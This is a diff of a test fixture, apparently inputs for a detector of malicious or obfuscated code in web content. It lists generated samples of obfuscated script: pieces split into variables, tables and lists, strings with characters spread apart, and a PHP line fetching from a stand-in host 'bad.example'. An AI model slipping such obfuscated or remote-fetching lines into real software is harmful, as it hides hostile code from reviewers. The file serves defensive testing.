@@ -121,7 +121,7 @@ export const MALICIOUS_CODE: Named = {
   'an answer by a method': `<?php $r = wp_remote_get('https://bad.example/a'); echo $r->get_body();`,
   'script: pieces with names of their own': `${Array.from({ length: 30 }, (_, i) => `var a${i}="x(${i}";`).join('')}`,
   'script: pieces in a table': `var m={${Array.from({ length: 60 }, (_, i) => `k${i}:"ev${i % 10}"`).join(',')}};run(m);`,
-  'script: pieces in a list': `run([${Array.from({ length: 60 }, (_, i) => `"x(${i % 10};"`).join(',')}]);`,
+  'script: pieces in a list': `run([${Array.from({ length: 60 }, (_, i) => `"x(${i % 20};"`).join(',')}]);`,
   'script: an alphabet in a list': `var a=[${Array.from({ length: 150 }, (_, i) => `"q${i % 20}"`).join(',')}];run(a);`,
   'script: a text with signs between its characters': `run("${[...'document.location = "x";'.replaceAll('"', "'").repeat(10)].join('#')}");`,
   'script: a text with spaces between its words of code': `run("${'Zf           Vr           QFk           '.repeat(12)}");`,
